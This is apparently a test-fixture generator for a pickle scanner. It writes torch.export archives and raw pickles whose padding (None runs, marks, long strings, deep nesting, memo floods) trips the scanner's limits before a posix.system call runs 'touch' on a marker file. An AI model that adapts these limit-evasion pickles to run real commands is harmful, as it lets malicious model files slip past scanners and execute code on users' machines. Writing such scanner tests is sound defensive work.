# torch.export archive whose sample_inputs/model.pt (named a storage by a decoy base/data.pkl, as in
# review39) is a raw pickle that first trips one of the walker's own limits, then runs the payload.
# The storage-probe branch of src/scan/container.rs reports only globals, never a stop at a limit.
import torch, zipfile, io, os, pickle, collections, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(here, "../.."))
from pt2_decoy import export_base, with_decoy_sample  # noqa: E402
base = os.path.join(here, "base.pt2")
export_base(base)
def body(tag):
    return b"cposix\nsystem\n(Vtouch /tmp/review39b/pwned_%s\ntR." % tag.encode()
variants = {
    'nones': b"\x80\x02" + b"N" * ((1 << 20) + 16),
    'marks': b"\x80\x02" + b"(" * ((1 << 20) + 16),
    'longtext': b"\x80\x02" + b"V" + b"a" * (70 << 10) + b"\n0",
    'longstr': b"\x80\x02" + b"S'" + b"a" * (70 << 10) + b"'\n0",
    'globals': b"\x80\x02" + b"c__builtin__\nint\n0" * 4100,
    'memo': b"\x80\x02" + b"".join(b"B" + (1 << 20).to_bytes(4, "little") + b"\0" * (1 << 20) + b"q" + bytes([i]) + b"0" for i in range(70)),
    'nest': b"\x80\x02" + b"]" * 50 + b"0" * 50,
}
for tag, pre in variants.items():
    nested = pre + body("pt2_" + tag)
    out = os.path.join(here, f"pt2_{tag}.pt2")
    with_decoy_sample(base, out, nested)
    open(os.path.join(here, f"raw_{tag}.pkl"), "wb").write(nested)
